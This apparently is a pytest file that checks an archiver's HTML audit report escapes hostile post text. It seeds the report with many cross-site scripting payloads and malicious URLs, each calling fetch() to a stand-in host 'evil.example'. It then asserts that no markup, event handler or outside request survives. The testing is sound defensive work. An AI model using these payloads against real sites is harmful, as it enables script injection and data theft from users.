"""Hostile words in a report: whatever somebody wrote is text, and the file asks nobody for anything."""

from __future__ import annotations

import re
import shutil
import subprocess
from pathlib import Path

import pytest
from lxml import html

from archiver.audit import report
from archiver.audit.report import Stated
from archiver.audit.report.document import TEMPLATES
from archiver.audit.report.spelling import storable
from archiver.model.listing import PostFilter
from archiver.model.snapshot import Media, PostLink
from tests.audit.gone import delete_posts
from tests.builders import NOON, say

HOST = "evil.example"
_CALL = f"fetch('https://{HOST}/x')"
_SEEDS = (
    f"<script>{_CALL}</script>",
    f"<img src=x onerror={_CALL}>",
    f'"><svg onload={_CALL}>',
    f"'><iframe src=javascript:{_CALL}>",
    f"</p></blockquote></article><script src=https://{HOST}/a.js></script>",
    f"</style><script>{_CALL}</script>",
    f"</title><link rel=stylesheet href=https://{HOST}/a.css>",
    f"-->]]><base href=https://{HOST}/>",
    f'<meta http-equiv="refresh" content="0;url=https://{HOST}/">',
    f"<form action=https://{HOST}/><button>go</button></form>",
    f'<a href="javascript:{_CALL}">click</a>',
    f"<object data=https://{HOST}/></object><embed src=https://{HOST}/>",
    f"<style>@import url(https://{HOST}/a.css)</style>",
    f"<svg><use href=https://{HOST}/#a /><foreignObject><body onload={_CALL}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src onerror={_CALL}>",
    f'<noscript><p title="</noscript><img src=x onerror={_CALL}>">',
    f"<template><script>{_CALL}</script></template>",
    f"<video><source onerror={_CALL}></video>",
    f"<input autofocus onfocus={_CALL}>",
    "{{ 7 * 7 }}{% for each in range(9) %}x{% endfor %}{# comment #}",
    "&lt;script&gt;&#x3c;script&#62;&amp;",
    "\x00<scr\x00ipt>\x1b[31m\x7f\x9b\ufffe",
    "\u202e>tpircs<\u2066\u2069\u200b\ufeff",
    "＜script＞ʺ ʹ ‹script›",
    "`${alert(1)}`\\\"'><",
)
FORMS = (
    lambda words: words,
    lambda words: words.upper(),
    lambda words: f"Sample {words} text {words}",
    lambda words: words.replace("<", "\n<").replace(" ", "\t"),
)
HOSTILE = tuple(form(words) for words in _SEEDS for form in FORMS)
ADDRESSES = (
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f"data:text/html,<script>{_CALL}</script>",
    f'https://{HOST}/" onmouseover={_CALL} x="',
    f"https://{HOST}\\@courier.example/",
    f"vbscript:{_CALL}",
    f"//{HOST}/",
    f" https://{HOST}/",
    f"https://user:pass@{HOST}/",
)
TAGS = frozenset(
    word
    for line in (
        "html head meta title style body a svg defs pattern line rect circle text path desc div p h1 h2 h3 h4 dl dt dd",
        "ul ol li span time bdi b section table caption thead tbody tfoot tr th td figure figcaption article header",
        "blockquote strong sub br img",
    )
    for word in line.split()
)


@pytest.fixture(scope="module")
def file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A report of a hundred deleted posts, each hostile in its words, names, links, pictures and article."""
    folder = tmp_path_factory.mktemp("hostile")
    said = [
        say(
            storable(words),
            author_handle=words.replace("\x00", "")[:60],
            author_name=words.replace("\x00", ""),
            language=words[:9],
            links=(PostLink(ADDRESSES[place % 9], ADDRESSES[(place + 1) % 9], words.replace("\x00", "")),),
            media=(Media(ADDRESSES[place % 9], "photo", words.replace("\x00", "")),),
        )
        for place, words in enumerate(HOSTILE)
    ]
    store = delete_posts(folder, said, title=_SEEDS[0])
    path = folder / "report.html"
    stated = Stated(as_of=NOON, origin=_SEEDS[5], held_outside=(_SEEDS[0],), retention=_SEEDS[1], follow=(_SEEDS[2],))
    assert report.write(store, path, PostFilter(), stated=stated) == len(HOSTILE) >= 100
    return path


def test_no_word_becomes_markup(file: Path) -> None:
    """No element that the templates do not write, no attribute that acts, no address that is not https."""
    page = html.document_fromstring(file.read_text(encoding="utf-8"))
    for element in page.iter():
        assert isinstance(element.tag, str), element
        assert element.tag in TAGS, element.tag
        for name, said in element.attrib.items():
            assert not name.startswith("on")
            assert name not in ("style", "srcdoc", "action", "formaction", "xlink:href")
            if name == "href":
                assert said.startswith(("#", "https://")), said
                assert element.tag == "a"
                assert said.startswith("#") or element.get("rel") == "noopener noreferrer nofollow"
            if name == "src":
                assert said.startswith("data:image/"), said
    assert len(page.xpath("//article")) == len(HOSTILE)
    assert len(page.xpath("//style")) == 1
    assert page.xpath("//*[local-name()='script']") == []


def test_every_word_is_shown_as_it_was_written(file: Path) -> None:
    """Nothing is dropped and nothing is done to it; what HTML cannot hold is written out."""
    page = html.document_fromstring(file.read_text(encoding="utf-8"))
    shown = {element.text for element in page.xpath("//blockquote/p[@class='post']")}
    assert {storable(words) for words in HOSTILE} == shown


def test_nothing_in_a_name_or_an_address_is_hidden(file: Path) -> None:
    """Overrides of direction and what cannot be seen are written out in handles, names and addresses."""
    page = html.document_fromstring(file.read_text(encoding="utf-8"))
    for element in page.xpath("//bdi"):
        assert not set(element.text_content()) & set("\u202e\u2066\u200b\x1b\x7f\n"), element.text_content()


def test_no_template_lets_words_through_unescaped() -> None:
    """Only the style sheet, which is our own, is set as it stands."""
    written = "".join(path.read_text(encoding="utf-8") for path in sorted(TEMPLATES.glob("*.html")))
    assert re.findall(r"\{\{ (\w+) \| safe \}\}", written) == ["style"]
    assert written.count("safe }}") == 1
    assert "autoescape" not in written
    assert not re.search(r"=\{\{", written), "every attribute stands in quotes"


@pytest.mark.skipif(shutil.which("chromium") is None, reason="no Chromium on this machine")
def test_a_browser_asks_nobody_and_complains_of_nothing(file: Path, tmp_path: Path) -> None:
    """Opened in Chromium: no request but the file itself, and no line on its console."""
    log = tmp_path / "net.json"
    opened = subprocess.run(
        [
            *("chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"),
            *("--disable-component-update", "--no-first-run", "--host-resolver-rules=MAP * ~NOTFOUND"),
            *(f"--user-data-dir={tmp_path / 'profile'}", f"--log-net-log={log}", "--enable-logging=stderr"),
            *("--virtual-time-budget=3000", "--dump-dom", file.as_uri()),
        ],
        capture_output=True,
        timeout=300,
        check=True,
    )
    complaints = [line for line in opened.stderr.decode("utf-8", "replace").splitlines() if "CONSOLE" in line]
    assert complaints == []
    assert b"<article" in opened.stdout
    # Read as text: a browser that ends at once may not close the brackets of its log.
    requests = log.read_text(encoding="utf-8", errors="replace")
    assert "report.html" in requests
    assert HOST not in requests
